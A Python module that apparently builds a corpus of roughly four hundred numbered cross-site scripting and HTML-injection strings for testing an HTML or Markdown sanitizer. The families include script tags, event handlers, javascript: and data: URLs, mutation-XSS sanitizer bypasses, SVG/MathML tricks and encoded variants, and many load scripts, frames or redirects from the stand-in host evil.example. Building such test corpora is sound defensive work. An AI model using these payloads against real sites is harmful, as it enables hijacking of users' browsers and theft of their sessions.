"""Four hundred strings that mean harm, made of parts: what each is to do is to call `hit` with its own number.

The one thing to know: `§` stands for the number until a string is used, so that whatever runs in the browser says which
string it came from. What cannot run anything is to load from `evil.example`, to lead there, or to cover the page.
"""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from itertools import product
from typing import Final

_HIT: Final = "hit(§)"
_EVIL: Final = "http://evil.example/§"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One string, its number, and the family that it was made in."""

    number: int
    family: str
    text: str


def hostile() -> list[Hostile]:
    """All of them, numbered from 1."""
    made = [(family, text) for family, texts in FAMILIES.items() for text in texts]
    return [
        Hostile(number, family, text.replace("§", str(number))) for number, (family, text) in enumerate(made, start=1)
    ]


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(char)) for char in text)


def _scripts() -> Iterator[str]:
    yield from (f"<script>{_HIT}</script>", f"<ScRiPt>{_HIT}</sCrIpT>", f"<script\n>{_HIT}</script\t>")
    yield from (
        f"<script/x>{_HIT}</script/x>",
        f"<script>{_HIT}",
        f"<script>{_HIT}</script",
        f"<<script>{_HIT}//<</script>",
    )
    yield from (f"<scr<script>ipt>{_HIT}</scr</script>ipt>", f"<script type=module>{_HIT}</script>")
    yield from (f'<script src="{_EVIL}"></script>', "<script src=//evil.example/§></script>")
    yield from (f"<script src=data:text/javascript,{_HIT}></script>", f"<script>/*\n*/{_HIT}//\n</script>")
    yield from (f"</p></div><script>{_HIT}</script>", f"--><script>{_HIT}</script><!--", f"]]><script>{_HIT}</script>")
    yield from (f"x<script>{_HIT}</script>y", f"<script async>{_HIT}</script>", f"<script nonce=x>{_HIT}</script>")
    yield from (f"<b><script>{_HIT}</script></b>", "<script>eval('hi'+'t(§)')</script>")
    yield from ("<script>top['h\\x69t'](§)</script>", f"<script>`${{{_HIT}}}`</script>")


_TAGS: Final = (
    *("img src=x onerror=@", "svg onload=@", "body onload=@", "video src=x onerror=@", "audio src=x onerror=@"),
    *("details open ontoggle=@", "input autofocus onfocus=@", "iframe onload=@", "object data=x onerror=@"),
    *("style onload=@", "link rel=stylesheet href=x onerror=@", "svg><animate onbegin=@ attributeName=x dur=1s"),
    *("video><source src=x onerror=@", "button autofocus onfocus=@", "div tabindex=1 autofocus onfocus=@"),
)
_QUOTED: Final = (
    "hit(§)",
    '"hit(§)"',
    "'hit(§)'",
    _entities("hit(", "&#{};") + "§&#41;",
    _entities("hit(", "&#x{:x};") + "§)",
)


def _handlers() -> Iterator[str]:
    for tag, handler in product(_TAGS, _QUOTED):
        yield f"<{tag.replace('@', handler)}>"
    yield from (f"<IMG SRC=x OnErRoR={_HIT}>", f"<img/src=x/onerror={_HIT}>", f"<img\x0csrc=x\x0conerror={_HIT}>")
    yield from (f"<img\nsrc=x\nonerror\n=\n{_HIT}>", f"<img src=x onerror={_HIT}//", f"<img src=x:x onerror\t={_HIT}>")
    yield from (f'<img alt="`><b" src=x onerror={_HIT}>', f"<x/onclick={_HIT}><img src=x onerror={_HIT}></x>")


_SCHEMES: Final = (
    *("javascript:hit(§)", "JaVaScRiPt:hit(§)", " javascript:hit(§)", "java\tscript:hit(§)", "java\nscript:hit(§)"),
    *("&#106;avascript:hit(§)", "&#x6a;avascript:hit(§)", "java&Tab;script:hit(§)", "java&NewLine;script:hit(§)"),
    *("javascript&colon;hit(§)", "\x01javascript:hit(§)", "javascript://x.example/%0ahit(§)"),
    *("javascript:void%20hit(§)", "\u200bjavascript:hit(§)", "javascript\u200b:hit(§)", "&#0000106avascript:hit(§)"),
    *("data:text/html,<script>hit(§)</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4="),
    *("vbscript:hit(§)", "feed:javascript:hit(§)", "view-source:javascript:hit(§)", "blob:null/§"),
    *("//evil.example/§", "\\\\evil.example/§", "/\\evil.example/§", "/\t/evil.example/§", "http:\\\\evil.example/§"),
    *("https://x.example@evil.example/§", "javascript:hit(§)#https://x.example/", "ja%0Avascript:hit(§)"),
)


def _carried(carrier: str, schemes: Sequence[str]) -> Iterator[str]:
    yield from (carrier.replace("@", scheme) for scheme in schemes)


_MUTATIONS: Final = (
    "<noscript><p title='</noscript><img src=x onerror=hit(§)>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror=hit(§)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(§)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=hit(§)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(§)>",
    "<svg><style><img src=x onerror=hit(§)></style></svg>",
    "<svg><title><style><img src=x onerror=hit(§)></style></title></svg>",
    "<svg><desc><template><style></svg><img src=x onerror=hit(§)></style></template></desc></svg>",
    "<table><caption><svg><title></table><img src=x onerror=hit(§)></title></svg></caption></table>",
    "<select><template><style><!--</style><a rel='--></style></select><img src=x onerror=hit(§)>'>",
    "<template><style></template><img src=x onerror=hit(§)></style>",
    "<textarea></textarea><img src=x onerror=hit(§)>",
    "<textarea><p title='</textarea><img src=x onerror=hit(§)>'>",
    "<title><p title='</title><img src=x onerror=hit(§)>'>",
    "<xmp><p title='</xmp><img src=x onerror=hit(§)>'>",
    "<noembed><p title='</noembed><img src=x onerror=hit(§)>'>",
    "<noframes><p title='</noframes><img src=x onerror=hit(§)>'>",
    "<iframe><p title='</iframe><img src=x onerror=hit(§)>'>",
    "<style><p title='</style><img src=x onerror=hit(§)>'>",
    "<script><!--<script></script><img src=x onerror=hit(§)>--></script>",
    "<!--><img src=x onerror=hit(§)>-->",
    "<!-- --!><img src=x onerror=hit(§)> -->",
    "<!-><img src=x onerror=hit(§)>",
    "<?xml ><img src=x onerror=hit(§)> ?>",
    "<![CDATA[><img src=x onerror=hit(§)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=hit(§)>]]></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit(§)></annotation-xml></math>",
    "<b><p><a href='/x'><table><tr><a href='javascript:hit(§)'>x</b></td></a>",
    "<a<b onclick=hit(§)><img src=x onerror=hit(§)>",
    '<p/="><img src=x onerror=hit(§)>">',
    "<img title='`' alt='``onerror=hit(§)' src=x onerror=hit(§)>",
    "<div id='x`\"'><img src='`onerror=hit(§)' onerror=hit(§)></div>",
    "&lt;img src=x onerror=hit(§)&gt;<img src=x onerror=hit(§)>",
    "<ul><li><math><mi><style></li></ul><img src=x onerror=hit(§)></style>",
    "<frameset onload=hit(§)><frame src=x></frameset>",
)
_FOREIGN: Final = (
    "<svg><script>hit(§)</script></svg>",
    "<svg><script href='data:text/javascript,hit(§)'/></svg>",
    "<svg><script xlink:href='http://evil.example/§'/></svg>",
    "<svg><a xlink:href='javascript:hit(§)'><text x=9 y=9>x</text></a></svg>",
    "<svg><a href='javascript:hit(§)'><text x=9 y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:hit(§)' /><text x=9 y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=hit(§)><animate onbegin=hit(§) attributeName=x dur=1s></svg>",
    "<svg><image href='http://evil.example/§' onerror=hit(§)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(§)>#x'></svg>",
    "<svg><foreignObject><img src=x onerror=hit(§)></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>top.hit(§)</script>'></iframe></foreignObject></svg>",
    "<svg><filter><feImage href='http://evil.example/§'/></filter></svg>",
    "<svg/onload=hit(§)>",
    "<svg><g/onload=hit(§)></g></svg>",
    "<svg><discard onbegin=hit(§)>",
    "<svg><animatetransform onbegin=hit(§) attributeName=transform>",
    "<math href='javascript:hit(§)'><mtext>x</mtext></math>",
    "<math><mrow href='javascript:hit(§)'>x</mrow></math>",
    "<math><maction actiontype='statusline' href='javascript:hit(§)'>x</maction></math>",
    "<math><mi xlink:href='data:x,<script>hit(§)</script>'>x</mi></math>",
)
_STYLES: Final = (
    "<style>body{background:url(http://evil.example/§)}</style>",
    "<style>@import 'http://evil.example/§';</style>",
    "<style>*{display:none}</style>x",
    "<style>@keyframes x{}*{animation:x}</style><p onanimationstart=hit(§)>x</p>",
    "<link rel=stylesheet href=http://evil.example/§>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>x</div>",
    "<div style='background:url(http://evil.example/§)'>x</div>",
    "<p style='x:expression(hit(§))'>x</p>",
    "<p style=\"background-image:url('javascript:hit(§)')\">x</p>",
    "<p style='-moz-binding:url(http://evil.example/§)'>x</p>",
    "<p class='box' id='sentinel'>x</p>",
    "<a href=/x style='position:absolute;left:0;top:0;width:9999px;height:9999px'>x</a>",
    "<p style='margin-left:-9999px'>x</p>",
    "<font size=99 color=red>x</font>",
    "<marquee onstart=hit(§)>x</marquee>",
    "<table background='http://evil.example/§'><tr><td>x</table>",
    "<img src=http://evil.example/§ style='position:fixed'>",
    "<img srcset='http://evil.example/§ 1x'>",
    "<input type=image src=http://evil.example/§>",
    "<video poster=http://evil.example/§></video>",
)
_MOVES: Final = (
    "<meta http-equiv=refresh content='0;url=http://evil.example/§'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(§)'>",
    "<base href='http://evil.example/§/'><img src=y>",
    "<form action=http://evil.example/§><input name=x><button autofocus>x</button></form>",
    "<form action='javascript:hit(§)'><input type=submit id=x></form><label for=x>x</label>",
    "<form id=x></form><button form=x formaction='javascript:hit(§)'>x</button>",
    "<isindex action='javascript:hit(§)' type=image>",
    "<iframe src='javascript:top.hit(§)'></iframe>",
    "<iframe srcdoc='<script>top.hit(§)</script>'></iframe>",
    "<iframe src='http://evil.example/§'></iframe>",
    "<object data='javascript:hit(§)'></object>",
    "<object data='http://evil.example/§'></object>",
    "<embed src='javascript:hit(§)'>",
    "<embed src='http://evil.example/§'>",
    "<applet code=x archive=http://evil.example/§></applet>",
    "<portal src='http://evil.example/§'></portal>",
    "<link rel=prefetch href=http://evil.example/§>",
    "<link rel=import href=http://evil.example/§>",
    "<a href=http://evil.example/§ target=_blank ping=http://evil.example/§>x</a>",
    "<a href='/x' download=x onclick=hit(§)>x</a>",
    "<area href='javascript:hit(§)'><map name=x></map>",
    "<dialog open><img src=x onerror=hit(§)></dialog>",
    "<p popover id=x onbeforetoggle=hit(§)>x</p><img src=x onerror=hit(§)>",
    "<iframe name=x srcdoc='<a target=_top href=http://evil.example/§>'></iframe>",
)
_BREAKOUTS: Final = (
    '"><img src=x onerror=hit(§)>',
    "'><img src=x onerror=hit(§)>",
    "`><img src=x onerror=hit(§)>",
    '"/><svg onload=hit(§)>',
    '" autofocus onfocus="hit(§)',
    "</title><img src=x onerror=hit(§)>",
    "</textarea><img src=x onerror=hit(§)>",
    "</style><img src=x onerror=hit(§)>",
    "</script><img src=x onerror=hit(§)>",
    "</code></pre><img src=x onerror=hit(§)>",
    "</a></p></div></body><img src=x onerror=hit(§)>",
    "--><img src=x onerror=hit(§)>",
    '[x](/a "\\"><img src=x onerror=hit(§)>")',
    '[x](/a"onmouseover="hit(§))<img src=x onerror=hit(§)>',
    '![" onerror="hit(§)](media:@ "x")',
    '![x](media:@ "<img src=x onerror=hit(§)>")',
    "![</figcaption><img src=x onerror=hit(§)>](media:@)",
    "![x](media:@/../../evil)",
    '```"><img src=x onerror=hit(§)>\nx\n```',
    "``` x onclick=hit(§)\n</code></pre><img src=x onerror=hit(§)>\n```",
    "`<img src=x onerror=hit(§)>`<img src=x onerror=hit(§)>",
    "~~~<img src=x onerror=hit(§)>\n<img src=x onerror=hit(§)>\n~~~",
    "| <img src=x onerror=hit(§)> | [x](javascript:hit(§)) |\n|---|---|\n| <script>hit(§)</script> | y |",
    "> <img src=x onerror=hit(§)>\n> - [x](javascript:hit(§))",
    "- <img src=x onerror=hit(§)>\n- <script>hit(§)</script>",
    "# <img src=x onerror=hit(§)>\n\n## <svg onload=hit(§)>",
    "*<img src=x onerror=hit(§)>* **<svg onload=hit(§)>** ~~<b onclick=hit(§)>~~",
    "[<img src=x onerror=hit(§)>](/a)",
    "[[x](javascript:hit(§))](/a)",
    "<div markdown=1>\n\n[x](javascript:hit(§))\n\n<img src=x onerror=hit(§)></div>",
    "https://x.example/<img/src=x/onerror=hit(§)>",
    "\\<img src=x onerror=hit(§)\\>",
    "<img src=x\\\nonerror=hit(§)>",
    "{{constructor.constructor('hit(§)')()}}<img src=x onerror=hit(§)>",
)
_CODED: Final = (
    "&lt;script&gt;hit(§)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(§)&#62;",
    "&#x3c;img src=x onerror=hit(§)&#x3e;",
    "&amp;lt;img src=x onerror=hit(§)&amp;gt;",
    "&lt&lt;script&gt&gt;hit(§)",
    "%3Cimg%20src=x%20onerror=hit(§)%3E",
    "+ADw-img src=x onerror=hit(§)+AD4-",
    "\\u003cimg src=x onerror=hit(§)\\u003e",
    "\\x3cimg src=x onerror=hit(§)\\x3e",
    "\uff1cimg src=x onerror=hit(§)\uff1e",
    "\u02c2script\u02c3hit(§)\u02c2/script\u02c3",
    "\u2039img src=x onerror=hit(§)\u203a<img src=x onerror=hit(§)>",
    "<\u200bimg src=x onerror=hit(§)>",
    "<img\u00a0src=x\u00a0onerror=hit(§)>",
    "<i\u200dmg src=x onerror=hit(§)><img src=x onerror=hit(§)>",
    "\ufeff<img src=x onerror=hit(§)>",
    "\u202e<img src=x onerror=hit(§)>\u202c",
    "\u2066<img src=x onerror=hit(§)>\u2069",
    "<img src=x onerror=hit(§) \u202e>",
    "<\u0130mg src=x onerror=hit(§)><\u017fcript>hit(§)</\u017fcript>",
    "<img \x01src=x onerror=hit(§)>",
    "<img src=x \x0bonerror=hit(§)>",
    "<im\x00g src=x onerror=hit(§)>",
    "<img src=x onerror\x00=hit(§)>",
    "\x00<img src=x onerror=hit(§)>",
    "&#0;<img src=x onerror=hit(§)>",
    "&#xfffd;<img src=x onerror=&#0;hit(§)>",
    "\ufffe<img src=x onerror=hit(§)>",
    "<img src=x onerror=\u2028hit(§)>",
    "<img src=x onerror=hit(§)\x85>",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 8 + "<img src=x onerror=hit(§)>",
    "\U000e0001\U000e0020<img src=x onerror=hit(§)>",
)

FAMILIES: Final[Mapping[str, Sequence[str]]] = {
    "scripts": list(_scripts()),
    "handlers": list(_handlers()),
    "links": list(_carried("<a href='@'>x</a>", _SCHEMES)),
    "Markdown links": list(_carried("[x](@)", _SCHEMES)),
    "Markdown links in brackets": list(_carried("[x](<@>)", _SCHEMES[:8])),
    "autolinks": list(_carried("<@>", _SCHEMES[:16])),
    "references": list(_carried("[x][y]\n\n[y]: @", _SCHEMES[:8])),
    "images": list(_carried("![x](@)", _SCHEMES[15:22])),
    "addresses": list(_carried("@", _SCHEMES)),
    "mutations": _MUTATIONS,
    "SVG and MathML": _FOREIGN,
    "styles": _STYLES,
    "moves": _MOVES,
    "breakouts": _BREAKOUTS,
    "codes": _CODED,
}
